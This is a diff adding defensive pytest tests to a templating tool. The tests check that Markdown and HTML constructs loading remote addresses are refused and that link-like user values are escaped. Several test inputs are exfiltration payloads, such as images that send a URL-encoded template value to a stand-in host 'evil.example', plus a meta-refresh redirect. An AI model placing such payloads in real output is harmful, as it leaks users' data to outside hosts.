@@ -415,3 +415,38 @@ def test_rebuilt_html_is_stable_and_never_crashes():
         assert "<!--" not in once and twice == once and again == problems
 
     check()
+
+
+# --- Markdown output follows the same rules for what the template put there -------------------
+
+@pytest.mark.parametrize("source, construct", [
+    ("![logo](https://evil.example/{{ x|urlencode }}.png)", "Markdown image"),
+    ("[help](//evil.example/?{{ x|urlencode }})", "Markdown link"),
+    ("[r]: https://evil.example/{{ x|urlencode }}", "Markdown reference"),
+    ("<https://evil.example/{{ x|urlencode }}>", "Markdown autolink"),
+    ('<img src="https://evil.example/{{ x|urlencode }}">', "<img src>"),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "meta http-equiv=refresh"),
+])
+def test_markdown_that_loads_or_links_elsewhere_is_refused(ws, tpl, source, construct):
+    name = tpl("bad.md.j2", f"# Note\n\n{source}\n")
+    with pytest.raises(DataError) as err:
+        templating.render(ws, name, {"x": "Sam Example"}, fmt="md")
+    assert construct in err.value.message and "bad.md.j2" in err.value.message
+    assert "Sam" not in err.value.message
+
+
+def test_markdown_values_that_look_like_links_are_escaped_not_refused(ws, tpl):
+    name = tpl("ok.md.j2", "# Note\n{{ x }}\n[Plan](#plan) ![seal](data:image/png;base64,AA)\n")
+    text = '<img src="https://e.example/x"> [a](https://e.example) ![b](https://e.example) <https://e.example>'
+    out = templating.render(ws, name, {"x": text}, fmt="md")
+    assert "\\<img" in out and "\\[a\\]" in out
+
+
+def test_templates_check_reports_markdown_links_in_md_templates(run, ws_path):
+    folder = ws_path / "templates" / "notes"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "note.md.j2").write_text("# {{ note.id }}\n\n![x](https://evil.example/{{ note.id }})\n[a]({{ note.id }}.md)\n")
+    result = run("templates", "check")
+    assert result.exit_code == 1
+    assert "templates/notes/note.md.j2:3: loads or links a remote address in a Markdown image" in result.output
+    assert "note.md.j2:4" not in result.output
